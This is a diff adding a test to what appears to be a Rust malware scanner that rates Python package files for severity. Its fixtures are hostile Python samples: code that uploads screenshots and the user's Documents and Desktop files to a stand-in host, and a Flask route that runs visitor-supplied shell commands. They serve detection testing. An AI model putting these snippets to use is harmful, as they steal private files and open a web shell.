@@ -433,6 +433,16 @@ mod tests {
     }
 
     #[test]
+    fn an_in_memory_buffer_carries_what_is_saved_or_written_into_it() {
+        let shot = "import io, pyautogui, requests\nbuf = io.BytesIO()\npyautogui.screenshot().save(buf, format='PNG')\nrequests.post('https://x.example/s', files={'s': buf.getvalue()})\n";
+        assert!(max_severity("p/pkg/__init__.py", shot, "WH200") >= 0.7);
+        let temp = "import subprocess, tempfile, base64\ndef show(blob):\n    tmp = tempfile.NamedTemporaryFile()\n    tmp.write(base64.b64decode(blob))\n    subprocess.run(['openssl', 'x509', '-in', tmp.name])\n";
+        assert!(max_severity("p/pkg/mod.py", temp, "WH200") < 0.3);
+        let listed = "import glob, os, requests\nfor pattern in ('~/Documents/*.pdf', '~/Desktop/*.docx'):\n    for f in glob.glob(os.path.expanduser(pattern)):\n        requests.post('https://x.example/d', files={'f': open(f, 'rb')})\n";
+        assert!(max_severity("p/pkg/__init__.py", listed, "WH200") >= 0.8);
+    }
+
+    #[test]
     fn a_route_running_what_its_visitor_sends_is_a_web_shell() {
         let shell = "import os\nfrom flask import Flask, request\napp = Flask(__name__)\n@app.route('/x')\ndef x():\n    return os.popen(request.args.get('c')).read()\n";
         assert!(max_severity("p/pkg/app.py", shell, "WH200") >= 0.7);
